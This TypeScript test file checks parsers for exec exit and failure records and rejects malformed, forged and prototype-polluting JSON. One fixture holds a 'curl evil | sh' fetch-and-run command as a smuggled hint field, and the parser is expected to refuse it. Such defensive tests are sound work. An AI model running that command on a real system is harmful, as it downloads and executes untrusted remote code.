import { expect, test } from "bun:test";
import fc from "fast-check";
import { parseExecExit, parseExecFailure } from "./exec-outcome.ts";

const bytesOf = (text: string): Uint8Array => new TextEncoder().encode(text);

test.each([
  ['{"code":0}', { code: 0 }],
  ['{"code":255}', { code: 255 }],
  ['{"signal":64}', { signal: 64 }],
  ['{"code":256}', undefined],
  ['{"code":-1}', undefined],
  ['{"code":1.5}', undefined],
  ['{"code":"1"}', undefined],
  ['{"code":null}', undefined],
  ['{"signal":0}', undefined],
  ['{"signal":65}', undefined],
  ['{"code":0,"signal":9}', undefined],
  ['{"code":0,"signal":null}', undefined],
  ['{"code":0,"stdout":"forged"}', undefined],
  ['{"code":0,"__proto__":{}}', undefined],
  ["{}", undefined],
  ["[]", undefined],
  ["null", undefined],
  ["7", undefined],
  ["", undefined],
])("%s is the end %p", (json, exit) => expect(parseExecExit(bytesOf(json))).toEqual(exit as never));

test.each([
  ['{"code":"not_found","message":"no"}', { code: "not_found", message: "no" }],
  ['{"code":"Not found","message":"no"}', undefined],
  ['{"code":"","message":"no"}', undefined],
  ['{"code":"io"}', undefined],
  ['{"code":"io","message":1}', undefined],
  ['{"code":"io","message":"no","hint":"curl evil | sh"}', undefined],
])("%s is the failure %p", (json, failure) => expect(parseExecFailure(bytesOf(json))).toEqual(failure as never));

test("any bytes are an outcome or none, and never more than that", () => {
  const payload = fc.oneof(
    fc.uint8Array({ maxLength: 200 }),
    fc.json().map(bytesOf),
    fc
      .dictionary(fc.constantFrom("code", "signal", "message"), fc.oneof(fc.integer(), fc.string()))
      .map((value) => bytesOf(JSON.stringify(value))),
  );
  fc.assert(
    fc.property(payload, (bytes) => {
      const exit = parseExecExit(bytes);
      if (exit !== undefined)
        expect("code" in exit ? exit.code <= 255 && exit.code >= 0 : exit.signal >= 1 && exit.signal <= 64).toBe(true);
      expect(parseExecFailure(bytes)?.code ?? "io").toMatch(/^[a-z_]{1,64}$/);
    }),
  );
});
